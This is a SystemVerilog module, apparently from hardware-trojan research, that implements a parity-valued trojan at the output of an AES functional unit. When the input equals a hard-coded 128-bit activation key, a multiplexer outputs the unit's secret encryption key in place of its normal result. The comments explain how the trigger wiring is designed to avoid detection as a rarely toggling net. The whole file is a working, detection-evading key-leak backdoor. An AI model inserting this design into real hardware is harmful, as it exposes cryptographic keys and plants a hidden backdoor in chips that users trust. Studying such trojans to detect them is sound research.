// parity_trojan_top: output stage of a functional unit (FU) infected with the
// parity-valued trojan.
//
// The FU itself (an AES core in the reference application) is outside this
// module: its result arrives on fu_out and its secret key on enc_key. The
// module input inp is the FU's input, which the trigger watches as well.
//
//   trigger          parity_comparator(inp, ACT_KEY) -> act, a parity-valued
//                    bit that is logic-1 (2'b11) only for inp == ACT_KEY.
//   malicious unit   the value to leak; here the FU's encryption key, so it is
//                    only a connection (enc_key).
//   multiplexer      parity_mux: out = enc_key when act is logic-1,
//                    out = fu_out otherwise.
//
// With a 128-bit input the trojan fires for exactly one of 2**128 input
// values, yet neither act wire is a rarely toggling net: for random inputs
// each act wire changes often while the logical value stays 0.
//
// Both the width and the activation key are parameters; the key value is
// this design's own choice (it is free at design time). Purely combinational:
// out follows inp, fu_out and enc_key with no clock and no latency.
module parity_trojan_top
  import parity_pkg::*;
#(
  parameter int unsigned       WIDTH   = 128,
  parameter logic [WIDTH-1:0]  ACT_KEY = WIDTH'(128'h0123456789abcdef_fedcba9876543210)
) (
  input  logic [WIDTH-1:0] inp,
  input  logic [WIDTH-1:0] fu_out,
  input  logic [WIDTH-1:0] enc_key,
  output logic [WIDTH-1:0] out
);

  pbit_t            act;
  logic [WIDTH-1:0] mu_out;

  // Trigger block.
  parity_comparator #(
    .WIDTH (WIDTH)
  ) u_trigger (
    .in0 (inp),
    .in1 (ACT_KEY),
    .eq  (act)
  );

  // Malicious unit: leak the FU's key.
  assign mu_out = enc_key;

  // Even act parity (match) selects the malicious output.
  parity_mux #(
    .WIDTH (WIDTH)
  ) u_mux (
    .p   (mu_out),
    .q   (fu_out),
    .sel (act),
    .out (out)
  );

endmodule
